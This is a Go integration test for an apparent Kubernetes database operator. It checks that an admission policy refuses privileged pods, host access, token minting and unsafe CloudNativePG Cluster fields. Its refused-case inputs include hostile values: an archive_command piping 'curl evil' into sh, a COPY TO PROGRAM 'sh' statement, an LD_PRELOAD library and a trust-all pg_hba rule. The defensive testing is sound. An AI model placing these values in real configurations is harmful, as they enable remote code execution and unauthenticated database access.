package integration

import (
	"context"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	fleetv1alpha1 "github.com/fleetdb/fleetdb/apis/v1alpha1"
	"github.com/fleetdb/fleetdb/internal/pki"
	"github.com/fleetdb/fleetdb/member"
	"github.com/fleetdb/fleetdb/test/fleet"
)

// TestMemberAgentScope (issue 25, item 11) installs deploy/member in a real
// member API server with CloudNativePG's Cluster CRD and acts as the hub's
// identity: what fleetdb renders is admitted (StatefulSet backend objects,
// backup, restore Jobs, a CloudNativePG Cluster); a CloudNativePG Cluster
// outside the managed namespaces, a privileged or host-reaching pod
// template, and a namespace with a label of its own choosing (a Pod Security
// level) are refused.
func TestMemberAgentScope(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a control plane")
	}
	g := NewWithT(t)
	assets, err := fleet.AssetsDir()
	g.Expect(err).NotTo(HaveOccurred())
	crd, err := fleet.CNPGClusterCRD()
	g.Expect(err).NotTo(HaveOccurred())
	cp, err := fleet.StartControlPlaneWith("member", assets, []string{crd})
	g.Expect(err).NotTo(HaveOccurred())
	t.Cleanup(func() { _ = cp.Stop() })
	ctx := fleet.Context(t)
	admin := cp.Client
	installMemberBase(t, ctx, admin)
	impersonated := rest.CopyConfig(cp.Config)
	impersonated.Impersonate = rest.ImpersonationConfig{
		UserName: hubAgent,
		Groups:   []string{"system:serviceaccounts", "system:serviceaccounts:fleetdb-system", "system:authenticated"},
	}
	agent, err := client.New(impersonated, client.Options{Scheme: fleet.Scheme})
	g.Expect(err).NotTo(HaveOccurred())
	g.Eventually(func() bool {
		err := agent.Create(ctx, configMap("default", "probe"))
		if err == nil {
			_ = admin.Delete(ctx, configMap("default", "probe"))
		}
		return apierrors.IsForbidden(err)
	}).WithTimeout(eventually).WithPolling(poll).Should(BeTrue(), "the admission policy never took effect")
	refused := func(err error, what, text string) {
		t.Helper()
		g.Expect(err).To(HaveOccurred(), "%s was allowed", what)
		g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want Forbidden, got %v", what, err)
		g.Expect(err.Error()).To(ContainSubstring(text), what)
	}

	// What fleetdb renders for the StatefulSet backend, and its Jobs.
	creds := map[string][]byte{member.CredentialsUsernameKey: []byte("app"), member.CredentialsPasswordKey: []byte("pw")}
	db := &fleetv1alpha1.Database{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "orders", UID: "u1"},
		Spec: fleetv1alpha1.DatabaseSpec{Engine: fleetv1alpha1.EnginePostgres, Backend: fleetv1alpha1.BackendStatefulSet, Replicas: 1,
			Storage: fleetv1alpha1.StorageSpec{Size: resource.MustParse("1Gi")}}}
	// With the instance TLS the hub issues (issue 42, item 6): the
	// StatefulSet mounts its Secret, the rotation Job the CA from it.
	instanceTLS, err := pki.IssueInstanceCertificates(db, time.Now())
	g.Expect(err).NotTo(HaveOccurred())
	objs, err := member.Render(member.Params{Database: db, Cluster: "m1", Credentials: creds, InstanceTLS: &instanceTLS})
	g.Expect(err).NotTo(HaveOccurred())
	var sts *appsv1.StatefulSet
	for _, o := range objs {
		g.Expect(agent.Create(ctx, o)).To(Succeed(), "%T %s as fleetdb renders it", o, o.GetName())
		if _, ok := o.(*corev1.Namespace); ok {
			// Secrets only once the hub bound its Secret role there, as it does.
			_, err := member.NewSecretAccess().Ensure(ctx, "m1", agent, agent, o.GetName(), nil)
			g.Expect(err).NotTo(HaveOccurred(), "binding the Secret role in %s", o.GetName())
		}
		if s, ok := o.(*appsv1.StatefulSet); ok {
			sts = s
		}
	}
	g.Expect(sts).NotTo(BeNil())
	backup, err := member.BackupJob(member.BackupParams{Database: db, Kind: fleetv1alpha1.BackupKindFinal, ID: "b1", Attempt: 1, HubID: "h"})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(agent.Create(ctx, backup)).To(Succeed(), "the backup Job as fleetdb renders it")
	copyDB := db.DeepCopy()
	copyDB.Name, copyDB.UID = "orders-copy", "u2"
	copyDB.Spec.RestoreFrom = &fleetv1alpha1.RestoreSource{BackupName: "nightly"}
	restore, err := member.RestoreJob(member.RestoreParams{Database: copyDB, Cluster: "m1", SourceDatabase: "orders", BackupID: "b1", Attempt: 1})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(agent.Create(ctx, restore)).To(Succeed(), "the restore Job as fleetdb renders it")
	cleanup, err := member.BackupCleanupJob(backup, "orders-cleanup", nil)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(agent.Create(ctx, cleanup)).To(Succeed(), "the backup cleanup Job as fleetdb renders it")
	s3DB := db.DeepCopy()
	s3DB.Spec.Backup = &fleetv1alpha1.BackupSpec{S3: &fleetv1alpha1.S3BackupSpec{Endpoint: "https://s3.example", Bucket: "b", CredentialsSecretName: "s3"}}
	upload, err := member.BackupJob(member.BackupParams{Database: s3DB, Kind: fleetv1alpha1.BackupKindOnDemand, ID: "b2", Attempt: 1, HubID: "h"})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(upload.Spec.Template.Spec.InitContainers).NotTo(BeEmpty(), "a backup with an S3 upload step")
	g.Expect(agent.Create(ctx, upload)).To(Succeed(), "the backup Job with its S3 upload as fleetdb renders it")

	// The pod policy and its binding load on their own, after the scope
	// policy the wait above saw: wait for them the same way (a dry run).
	g.Eventually(func() bool {
		probe := sts.DeepCopy()
		probe.ResourceVersion, probe.Name = "", "probe"
		privileged(&probe.Spec.Template.Spec.Containers[0])
		return apierrors.IsForbidden(agent.Create(ctx, probe, client.DryRunAll))
	}).WithTimeout(eventually).WithPolling(poll).Should(BeTrue(), "the pod policy never took effect")
	// Secret volumes, admitted for the Database's own instance TLS Secret only.
	g.Expect(sts.Spec.Template.Spec.Volumes).To(ContainElement(HaveField("Secret.SecretName", member.InstanceTLSSecretName("orders"))))
	var rendered appsv1.StatefulSet
	g.Expect(agent.Get(ctx, client.ObjectKeyFromObject(sts), &rendered)).To(Succeed())
	rendered.Spec.Template.Annotations["probe"] = "1"
	g.Expect(agent.Update(ctx, &rendered, client.DryRunAll)).To(Succeed(), "the StatefulSet with its instance TLS volume as fleetdb renders it")
	rotation, err := member.RotationJob(member.RotationParams{Database: db, Cluster: "m1", Token: "t1", Attempt: 1, StatefulSet: sts})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(rotation.Spec.Template.Spec.Volumes).To(ConsistOf(HaveField("Secret.SecretName", member.InstanceTLSSecretName("orders"))))
	g.Expect(agent.Create(ctx, rotation)).To(Succeed(), "the rotation Job as fleetdb renders it")
	otherSecret := rotation.DeepCopy()
	otherSecret.ResourceVersion, otherSecret.Name = "", "orders-rotate-other"
	otherSecret.Spec.Selector, otherSecret.Spec.Template.Labels = nil, nil
	otherSecret.Spec.Template.Spec.Volumes[0].Secret.SecretName = "payments-instance-tls"
	refused(agent.Create(ctx, otherSecret), "a rotation Job mounting another Database's instance TLS Secret", "instance TLS Secret of their own Database")
	unnamed := rotation.DeepCopy()
	unnamed.ResourceVersion, unnamed.Name = "", "shell-tls"
	unnamed.Spec.Selector, unnamed.Spec.Template.Labels = nil, nil
	refused(agent.Create(ctx, unnamed), "a Job not named after the Database it mounts the instance TLS Secret of", "instance TLS Secret of their own Database")

	// Pod templates beyond what fleetdb renders.
	for what, change := range map[string]func(*corev1.PodSpec){
		"a privileged container": func(p *corev1.PodSpec) { privileged(&p.Containers[0]) },
		"an added capability": func(p *corev1.PodSpec) {
			p.Containers[0].SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_ADMIN"}
		},
		"privilege escalation": func(p *corev1.PodSpec) { p.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptrTo(true) },
		"a root container": func(p *corev1.PodSpec) {
			p.Containers[0].SecurityContext.RunAsNonRoot = ptrTo(false)
			p.Containers[0].SecurityContext.RunAsUser = ptrTo(int64(0))
		},
		"no seccomp profile": func(p *corev1.PodSpec) {
			p.SecurityContext.SeccompProfile, p.Containers[0].SecurityContext.SeccompProfile = nil, nil
		},
		"a host port":      func(p *corev1.PodSpec) { p.Containers[0].Ports[0].HostPort = 5432 },
		"the host network": func(p *corev1.PodSpec) { p.HostNetwork = true },
		"a volume of another Secret": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "s", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "tenant-creds"}}})
		},
		"a hostPath volume": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		},
	} {
		bad := sts.DeepCopy()
		bad.ResourceVersion, bad.Name = "", "bad"
		for _, v := range bad.Spec.Template.Spec.Volumes {
			if v.Secret != nil {
				v.Secret.SecretName = member.InstanceTLSSecretName(bad.Name) // its own: only change is refused
			}
		}
		change(&bad.Spec.Template.Spec)
		refused(agent.Create(ctx, bad), "a StatefulSet with "+what, "fleetdb-hub-agent-pods")
	}
	// An update of fleetdb's own StatefulSet is held to the same rules.
	var cur appsv1.StatefulSet
	g.Expect(agent.Get(ctx, client.ObjectKeyFromObject(sts), &cur)).To(Succeed())
	privileged(&cur.Spec.Template.Spec.Containers[0])
	refused(agent.Update(ctx, &cur), "making the StatefulSet privileged", "as fleetdb renders them")
	job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "shell"}, Spec: *backup.Spec.DeepCopy()}
	job.Spec.Template.Spec.HostPID = true
	job.Spec.Selector, job.Spec.Template.Labels = nil, nil
	refused(agent.Create(ctx, job), "a Job in the host's PID namespace", "host namespaces")
	// The admin is not bound by it.
	bad := sts.DeepCopy()
	bad.ResourceVersion, bad.Name = "", "admin-made"
	privileged(&bad.Spec.Template.Spec.Containers[0])
	g.Expect(admin.Create(ctx, bad)).To(Succeed())

	// Namespaces: fleetdb's labels only.
	refused(agent.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "team-priv", Labels: map[string]string{
		fleetv1alpha1.LabelManagedNamespace:  fleetv1alpha1.ManagedByValue,
		"pod-security.kubernetes.io/enforce": "privileged",
	}}}), "a namespace with Pod Security privileged", "no other labels")

	// CloudNativePG Clusters: in managed namespaces only.
	cnpgDB := db.DeepCopy()
	cnpgDB.Name, cnpgDB.UID, cnpgDB.Spec.Backend = "ledger", "u3", fleetv1alpha1.BackendCloudNativePG
	cobjs, err := member.Render(member.Params{Database: cnpgDB, Cluster: "m1", Credentials: creds})
	g.Expect(err).NotTo(HaveOccurred())
	var cluster client.Object
	for _, o := range cobjs {
		if o.GetObjectKind().GroupVersionKind().Group == "postgresql.cnpg.io" {
			cluster = o
		}
	}
	g.Expect(cluster).NotTo(BeNil(), "Render makes a CloudNativePG Cluster")
	g.Expect(admin.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "unmanaged"}})).To(Succeed())
	for _, ns := range []string{"kube-system", "unmanaged"} {
		c := cluster.DeepCopyObject().(client.Object)
		c.SetNamespace(ns)
		refused(agent.Create(ctx, c), "a CloudNativePG Cluster in "+ns, "fleetdb.io/managed-namespace")
	}
	g.Expect(agent.Create(ctx, cluster)).To(Succeed(), "a CloudNativePG Cluster in a managed namespace")
	memberAgentConfinement(t, ctx, admin, agent, impersonated, backup, cluster)
	g.Expect(agent.Delete(ctx, cluster)).To(Succeed())
}

// memberAgentConfinement (issue 42, item 3): acting as the hub's identity, a
// Job as another ServiceAccount or with a token, nfs and csi volumes, a
// Service with externalIPs, a ServiceAccount token Secret or TokenRequest, a
// CloudNativePG Cluster with a field fleetdb never renders, and reads of
// ConfigMaps and Jobs outside the managed namespaces it bound are refused;
// cluster is the Cluster fleetdb rendered, created in team-a.
func memberAgentConfinement(t *testing.T, ctx context.Context, admin, agent client.Client, cfg *rest.Config, backup *batchv1.Job, cluster client.Object) {
	g := NewWithT(t)
	refused := func(err error, what, text string) {
		t.Helper()
		g.Expect(err).To(HaveOccurred(), "%s was allowed", what)
		g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want Forbidden, got %v", what, err)
		g.Expect(err.Error()).To(ContainSubstring(text), what)
	}

	// Jobs: the namespace's default ServiceAccount, no token, fleetdb's volume kinds.
	for what, change := range map[string]func(*corev1.PodSpec){
		"another ServiceAccount":          func(p *corev1.PodSpec) { p.ServiceAccountName = "namespace-admin" },
		"a ServiceAccount token":          func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = ptrTo(true) },
		"no automountServiceAccountToken": func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = nil },
		"an nfs volume": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "nfs", VolumeSource: corev1.VolumeSource{NFS: &corev1.NFSVolumeSource{Server: "10.0.0.1", Path: "/"}}})
		},
		"a csi volume": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "csi", VolumeSource: corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: "secrets-store.csi.k8s.io"}}})
		},
		"a secret volume": func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "s", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "other"}}})
		},
	} {
		job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "confined"}, Spec: *backup.Spec.DeepCopy()}
		job.Spec.Selector, job.Spec.Template.Labels = nil, nil
		change(&job.Spec.Template.Spec)
		refused(agent.Create(ctx, job), "a Job with "+what, "default ServiceAccount")
	}

	// Services: no externalIPs (CVE-2020-8554), ClusterIP only.
	svc := func(change func(*corev1.ServiceSpec)) *corev1.Service {
		s := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "intercept"},
			Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Name: "p", Port: 443}}}}
		change(&s.Spec)
		return s
	}
	refused(agent.Create(ctx, svc(func(s *corev1.ServiceSpec) { s.ExternalIPs = []string{"203.0.113.7"} })), "a Service with externalIPs", "externalIPs")
	refused(agent.Create(ctx, svc(func(s *corev1.ServiceSpec) { s.Type = corev1.ServiceTypeNodePort })), "a NodePort Service", "ClusterIP")
	g.Expect(agent.Create(ctx, svc(func(*corev1.ServiceSpec) {}), client.DryRunAll)).To(Succeed(), "a ClusterIP Service")

	// No ServiceAccount tokens: a token Secret, a TokenRequest.
	refused(agent.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "minted",
		Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}}, Type: corev1.SecretTypeServiceAccountToken}),
		"a ServiceAccount token Secret", "token Secrets")
	cs, err := kubernetes.NewForConfig(cfg)
	g.Expect(err).NotTo(HaveOccurred())
	_, err = cs.CoreV1().ServiceAccounts("team-a").CreateToken(ctx, "default", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	refused(err, "a TokenRequest", "serviceaccounts/token")

	// Reads: ConfigMaps and Jobs only in the namespaces where the hub bound its role.
	g.Expect(admin.Create(ctx, configMap("kube-system", "cluster-settings"))).To(Succeed())
	refused(agent.Get(ctx, client.ObjectKey{Namespace: "kube-system", Name: "cluster-settings"}, &corev1.ConfigMap{}),
		"reading a ConfigMap in kube-system", "configmaps")
	refused(agent.List(ctx, &corev1.ConfigMapList{}), "listing ConfigMaps cluster-wide", "configmaps")
	refused(agent.List(ctx, &batchv1.JobList{}), "listing Jobs cluster-wide", "jobs")
	refused(agent.List(ctx, &batchv1.JobList{}, client.InNamespace("kube-system")), "listing Jobs in kube-system", "jobs")
	g.Expect(agent.List(ctx, &corev1.ConfigMapList{}, client.InNamespace("team-a"))).To(Succeed(), "ConfigMaps in a bound managed namespace")
	g.Expect(agent.List(ctx, &batchv1.JobList{}, client.InNamespace("team-a"))).To(Succeed(), "Jobs in a bound managed namespace")

	// CloudNativePG Clusters: what fleetdb renders and nothing else.
	base := cluster.DeepCopyObject().(*unstructured.Unstructured)
	base.SetResourceVersion("")
	base.SetName("shaped")
	for what, field := range map[string]struct {
		value any
		path  []string
	}{
		"env":                             {[]any{map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so"}}, []string{"spec", "env"}},
		"envFrom":                         {[]any{map[string]any{"secretRef": map[string]any{"name": "other"}}}, []string{"spec", "envFrom"}},
		"projectedVolumeTemplate":         {map[string]any{"sources": []any{map[string]any{"secret": map[string]any{"name": "other"}}}}, []string{"spec", "projectedVolumeTemplate"}},
		"serviceAccountTemplate":          {map[string]any{"metadata": map[string]any{"annotations": map[string]any{"iam": "admin"}}}, []string{"spec", "serviceAccountTemplate"}},
		"superuser access":                {true, []string{"spec", "enableSuperuserAccess"}},
		"archive_command":                 {"curl evil | sh", []string{"spec", "postgresql", "parameters", "archive_command"}},
		"shared_preload_libraries":        {"/var/lib/postgresql/data/x.so", []string{"spec", "postgresql", "parameters", "shared_preload_libraries"}},
		"pg_hba":                          {[]any{"host all all 0.0.0.0/0 trust"}, []string{"spec", "postgresql", "pg_hba"}},
		"postInitSQL":                     {[]any{"COPY x TO PROGRAM 'sh'"}, []string{"spec", "bootstrap", "initdb", "postInitSQL"}},
		"plugins with parameters":         {[]any{map[string]any{"name": "barman-cloud.cloudnative-pg.io", "parameters": map[string]any{"barmanObjectName": "elsewhere"}}}, []string{"spec", "plugins"}},
		"monitoring queries":              {[]any{map[string]any{"name": "q", "key": "queries"}}, []string{"spec", "monitoring", "customQueriesSecret"}},
		"an external cluster as postgres": {[]any{map[string]any{"name": "x", "connectionParameters": map[string]any{"host": "db.example", "user": "postgres", "sslmode": "disable"}}}, []string{"spec", "externalClusters"}},
		"a volume claim template":         {map[string]any{"dataSource": map[string]any{"kind": "PersistentVolumeClaim", "name": "other-db"}}, []string{"spec", "storage", "pvcTemplate"}},
	} {
		c := base.DeepCopy()
		g.Expect(unstructured.SetNestedField(c.Object, field.value, field.path...)).To(Succeed())
		g.Eventually(func() error { return agent.Create(ctx, c.DeepCopy(), client.DryRunAll) }).WithTimeout(eventually).WithPolling(poll).
			Should(MatchError(ContainSubstring("fleetdb-hub-agent-cnpg")), "a CloudNativePG Cluster with %s", what)
		refused(agent.Create(ctx, c), "a CloudNativePG Cluster with "+what, "only as fleetdb renders them")
	}
	// A node maintenance window (MemberCluster spec.nodeMaintenance) only
	// with reusePVC true: never one that lets CloudNativePG replace a volume.
	maint := base.DeepCopy()
	maint.SetName("maintained")
	g.Expect(unstructured.SetNestedField(maint.Object, map[string]any{"inProgress": true, "reusePVC": true}, "spec", "nodeMaintenanceWindow")).To(Succeed())
	g.Expect(agent.Create(ctx, maint.DeepCopy(), client.DryRunAll)).To(Succeed(), "a maintenance window that reuses the volumes")
	g.Expect(unstructured.SetNestedField(maint.Object, false, "spec", "nodeMaintenanceWindow", "reusePVC")).To(Succeed())
	refused(agent.Create(ctx, maint), "a maintenance window that does not reuse the volumes", "reusePVC true")
	// An update keeps what an administrator added, and cannot change it.
	var cur unstructured.Unstructured
	cur.SetGroupVersionKind(cluster.GetObjectKind().GroupVersionKind())
	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cluster), &cur)).To(Succeed())
	g.Expect(unstructured.SetNestedField(cur.Object, []any{map[string]any{"name": "TZ", "value": "UTC"}}, "spec", "env")).To(Succeed())
	g.Expect(admin.Update(ctx, &cur)).To(Succeed(), "an administrator's env")
	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cluster), &cur)).To(Succeed())
	g.Expect(unstructured.SetNestedField(cur.Object, int64(2), "spec", "instances")).To(Succeed())
	g.Expect(agent.Update(ctx, &cur)).To(Succeed(), "an update that keeps the administrator's env")
	g.Expect(unstructured.SetNestedField(cur.Object, []any{map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so"}}, "spec", "env")).To(Succeed())
	refused(agent.Update(ctx, &cur), "changing a Cluster's env", "only as fleetdb renders them")
}

// privileged makes c privileged (the API refuses privileged with
// allowPrivilegeEscalation false, so that goes).
func privileged(c *corev1.Container) {
	c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = ptrTo(true), nil
}
